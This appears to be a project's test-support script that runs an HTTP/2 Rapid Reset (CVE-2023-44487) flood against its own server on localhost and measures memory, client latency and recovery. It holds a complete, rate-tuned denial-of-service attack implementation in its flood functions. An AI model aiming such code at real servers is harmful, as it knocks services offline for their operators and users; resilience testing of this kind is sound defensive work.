"""HTTP/2 rapid reset (CVE-2023-44487) against a logstream on 127.0.0.1 (no tests here).

`flood()` is the abuser: many h2c connections, each sending a HEADERS frame and at once a
RST_STREAM for every stream, in rounds, reconnecting whenever the server closes one. Frames are
built once with the h2 library's HPACK encoder (never-indexed literals, so each header block
stands alone and one block serves every stream) and sent raw: a client-side h2 state machine
would cost more CPU than the server spends on the same frames. What the server sends back is
read with h2's frame buffer, to count GOAWAYs (and their error codes) and refused streams.

Run as a script it measures a fresh server before/during/after a flood (RSS, a normal
client's latency, log size):  python tests/support/h2_abuse.py [--seconds 2] [--rate 43000]
The flood itself runs in a child process (`python tests/support/h2_abuse.py flood ...`), so the
abuser's CPU does not slow down the measuring client's event loop.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import struct
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import httpx
from h2.frame_buffer import FrameBuffer
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import GoAwayFrame, RstStreamFrame

HEADERS, RST_STREAM = 0x1, 0x3
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB
REFUSED_STREAM = 0x7
HERE = Path(__file__).resolve().parent


def header_block(authority: str, path: str) -> bytes:
    """A GET for an event stream, HPACK-encoded without touching the dynamic table."""
    headers = [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", authority),
        (":path", path),
        ("accept", "text/event-stream"),
    ]
    return Encoder().encode([NeverIndexedHeaderTuple(n, v) for n, v in headers])


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    """One raw HTTP/2 frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream_id)
        + payload
    )


def reset_round(block: bytes, first_id: int, count: int) -> tuple[bytes, bytes, bytes]:
    """HEADERS and RST_STREAM(CANCEL) for `count` streams from `first_id` (odd) on.

    Returns the frames paired (one write), and the HEADERS and the resets apart (two writes).
    """
    rst = struct.pack(">I", CANCEL)
    headers, resets = [], []
    for stream_id in range(first_id, first_id + 2 * count, 2):
        headers.append(frame(HEADERS, END_STREAM | END_HEADERS, stream_id, block))
        resets.append(frame(RST_STREAM, 0, stream_id, rst))
    return (
        b"".join(h + r for h, r in zip(headers, resets, strict=True)),
        b"".join(headers),
        b"".join(resets),
    )


def preface() -> bytes:
    """The client connection preface and SETTINGS, as h2 writes them."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    return conn.data_to_send()


@dataclass
class FloodStats:
    """What the abuser did and what the server answered."""

    seconds: float = 0.0
    connections: int = 0
    resets_sent: int = 0
    goaways: dict[str, int] = field(default_factory=dict)
    refused: int = 0
    closed_without_goaway: int = 0

    @property
    def resets_per_second(self) -> float:
        return self.resets_sent / self.seconds if self.seconds else 0.0


@dataclass
class _Pace:
    """One abuser's share of the target rate, kept across its reconnections."""

    rate: float  # resets/s; 0: as fast as it can
    began: float = field(default_factory=time.monotonic)
    sent: int = 0

    def delay(self) -> float:
        """How long to wait before the next round to keep to the rate."""
        if not self.rate:
            return 0.0
        return max(0.0, self.began + self.sent / self.rate - time.monotonic())


async def _one_connection(
    host: str,
    port: int,
    block: bytes,
    streams: int,
    deadline: float,
    stats: FloodStats,
    pace: _Pace,
    split: float,
) -> None:
    """Flood on one connection until the server closes it or the time is up.

    `split` > 0 sends a round's resets that long after its HEADERS (the server has started
    the streams by then), instead of each right behind its HEADERS.
    """
    reader, writer = await asyncio.open_connection(host, port)
    stats.connections += 1
    closed = asyncio.Event()
    saw_goaway = False

    async def read() -> None:
        nonlocal saw_goaway
        buffer = FrameBuffer(server=False)
        buffer.max_frame_size = 2**24 - 1
        try:
            while data := await reader.read(2**16):
                buffer.add_data(data)
                for got in buffer:
                    if isinstance(got, GoAwayFrame):
                        saw_goaway = True
                        code = str(got.error_code)
                        stats.goaways[code] = stats.goaways.get(code, 0) + 1
                        closed.set()
                    elif isinstance(got, RstStreamFrame) and got.error_code == REFUSED_STREAM:
                        stats.refused += 1
        except (OSError, ValueError, Exception):
            pass
        finally:
            closed.set()

    reading = asyncio.create_task(read())
    try:
        writer.write(preface())
        next_id = 1
        while not closed.is_set() and time.monotonic() < deadline and next_id < 2**31 - 2 * streams:
            paired, headers, resets = reset_round(block, next_id, streams)
            next_id += 2 * streams
            try:
                if split:
                    writer.write(headers)
                    await asyncio.wait_for(writer.drain(), max(0.01, deadline - time.monotonic()))
                    await asyncio.sleep(split)
                    writer.write(resets)
                else:
                    writer.write(paired)
                await asyncio.wait_for(writer.drain(), max(0.01, deadline - time.monotonic()))
            except (TimeoutError, OSError):
                break
            stats.resets_sent += streams
            pace.sent += streams
            # Wait for the next round, or reconnect at once when the server closes this one.
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(closed.wait(), pace.delay())
    finally:
        if not saw_goaway and closed.is_set():
            stats.closed_without_goaway += 1
        writer.close()
        with contextlib.suppress(Exception):
            await asyncio.wait_for(writer.wait_closed(), 1)
        reading.cancel()
        with contextlib.suppress(BaseException):
            await reading


async def flood(
    host: str,
    port: int,
    path: str,
    *,
    seconds: float,
    connections: int,
    streams: int,
    rate: float = 0.0,
    split: float = 0.0,
) -> FloodStats:
    """`connections` abusers in parallel for `seconds`, each reconnecting when closed.

    `rate` is the target of resets per second over all connections (0: as fast as they can).
    """
    stats = FloodStats()
    block = header_block(f"{host}:{port}", path)
    started = time.monotonic()
    deadline = started + seconds

    async def abuser() -> None:
        pace = _Pace(rate / connections)
        while time.monotonic() < deadline:
            try:
                await asyncio.sleep(pace.delay())
                await _one_connection(host, port, block, streams, deadline, stats, pace, split)
            except OSError:
                await asyncio.sleep(0.01)

    await asyncio.gather(*(abuser() for _ in range(connections)))
    stats.seconds = time.monotonic() - started
    return stats


def run_flood(
    port: int,
    path: str,
    *,
    seconds: float,
    connections: int,
    streams: int,
    rate: float = 0.0,
    split: float = 0.0,
) -> dict[str, Any]:
    """The flood in a child process (its own CPU); returns its stats as a dict."""
    out = subprocess.run(
        [
            sys.executable,
            str(HERE / "h2_abuse.py"),
            "flood",
            "--port",
            str(port),
            "--path",
            path,
            "--seconds",
            str(seconds),
            "--connections",
            str(connections),
            "--streams",
            str(streams),
            "--rate",
            str(rate),
            "--split",
            str(split),
        ],
        capture_output=True,
        text=True,
        timeout=seconds + 120,
        check=True,
    )
    result: dict[str, Any] = json.loads(out.stdout.strip().splitlines()[-1])
    return result


def rss_mb(pid: int) -> float:
    """Resident memory of a process in MB (Linux)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


class Probe:
    """A normal client in a thread: GET a job every `every` s, each on a new connection.

    Records (start time, latency or None on failure) for each request; the server's RSS is
    sampled at the same pace.
    """

    def __init__(self, base_url: str, path: str, pid: int, every: float = 0.1) -> None:
        self.base_url, self.path, self.pid, self.every = base_url, path, pid, every
        self.samples: list[tuple[float, float | None]] = []
        self.rss: list[tuple[float, float]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> Probe:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(60)

    def _run(self) -> None:
        while not self._stop.is_set():
            began = time.monotonic()
            latency: float | None = None
            try:
                with httpx.Client(base_url=self.base_url, timeout=60) as client:
                    if client.get(self.path).status_code == 200:
                        latency = time.monotonic() - began
            except httpx.HTTPError:
                pass
            self.samples.append((began, latency))
            with contextlib.suppress(OSError):
                self.rss.append((time.monotonic(), rss_mb(self.pid)))
            self._stop.wait(max(0.0, self.every - (time.monotonic() - began)))

    def worst(self, since: float, until: float) -> float:
        """The slowest answer to a request begun in [since, until) (inf if one failed)."""
        got = [lat for at, lat in self.samples if since <= at < until]
        if not got:
            return float("inf")
        return max(float("inf") if lat is None else lat for lat in got)

    def peak_rss(self, since: float, until: float) -> float:
        """The largest RSS sampled in [since, until)."""
        return max((mb for at, mb in self.rss if since <= at < until), default=0.0)


def measure(
    seconds: float,
    connections: int,
    streams: int,
    rate: float,
    after: float = 10.0,
    split: float = 0.0,
) -> dict[str, Any]:
    """Start a server, flood it, and report what a normal client and the server saw."""
    from support.server import ServerProcess, create_job

    with tempfile.TemporaryDirectory() as tmp:
        server = ServerProcess(Path(tmp))
        server.start()
        try:
            assert server.proc is not None
            job = create_job(server.url, "victim")
            httpx.post(
                f"{server.url}/api/jobs/{job['id']}/lines",
                json={"lines": ["x"] * 50},
                headers={"Authorization": f"Bearer {job['token']}"},
            )
            time.sleep(1)
            probe = Probe(server.url, f"/api/jobs/{job['id']}", server.proc.pid).start()
            time.sleep(1)
            before = rss_mb(server.proc.pid)
            t0 = time.monotonic()
            stats = run_flood(
                server.port,
                f"/api/jobs/{job['id']}/log",
                seconds=seconds,
                connections=connections,
                streams=streams,
                rate=rate,
                split=split,
            )
            t1 = time.monotonic()
            # Back to normal: the first moment after the flood from which every answer is quick.
            time.sleep(after)
            probe.stop()
            after_samples = [(at, lat) for at, lat in probe.samples if at >= t1]
            recovered = next(
                (
                    at - t1
                    for i, (at, _lat) in enumerate(after_samples)
                    if all(lat is not None and lat < 0.5 for _at, lat in after_samples[i:])
                ),
                None,
            )
            return {
                "flood": stats,
                "rss_mb_before": round(before, 1),
                "rss_mb_peak": round(probe.peak_rss(t0, t1 + after), 1),
                "rss_mb_after": round(rss_mb(server.proc.pid), 1),
                "worst_latency_s_during": round(probe.worst(t0, t1), 3),
                "worst_latency_s_after": round(probe.worst(t1, t1 + after), 3),
                "recovered_after_s": None if recovered is None else round(recovered, 2),
                "probes": len(probe.samples),
                "log_bytes": server.log_path.stat().st_size,
                "log_tracebacks": server.logs().count("Traceback"),
                "log_tail": server.logs()[-600:],
            }
        finally:
            server.stop()


def main() -> None:
    """CLI: `flood` (the child) or, by default, a whole measurement."""
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", nargs="?", default="measure", choices=["measure", "flood"])
    parser.add_argument("--port", type=int)
    parser.add_argument("--path", default="/api/jobs/1/log")
    parser.add_argument("--seconds", type=float, default=2.0)
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--streams", type=int, default=900)
    parser.add_argument(
        "--rate",
        type=float,
        default=43_000.0,
        help="target resets/s over all connections (0: unpaced)",
    )
    parser.add_argument(
        "--split",
        type=float,
        default=0.0,
        help="send each round's resets this many seconds after its HEADERS",
    )
    parser.add_argument("--after", type=float, default=10.0, help="seconds watched after")
    args = parser.parse_args()
    if args.mode == "flood":
        stats = asyncio.run(
            flood(
                "127.0.0.1",
                args.port,
                args.path,
                seconds=args.seconds,
                connections=args.connections,
                streams=args.streams,
                rate=args.rate,
                split=args.split,
            )
        )
        print(json.dumps({**asdict(stats), "resets_per_second": stats.resets_per_second}))
        return
    sys.path.insert(0, str(HERE.parent))  # tests/, for `support`
    os.chdir(HERE.parent.parent)
    report = measure(
        args.seconds, args.connections, args.streams, args.rate, args.after, args.split
    )
    print(json.dumps(report, indent=2))


if __name__ == "__main__":
    main()
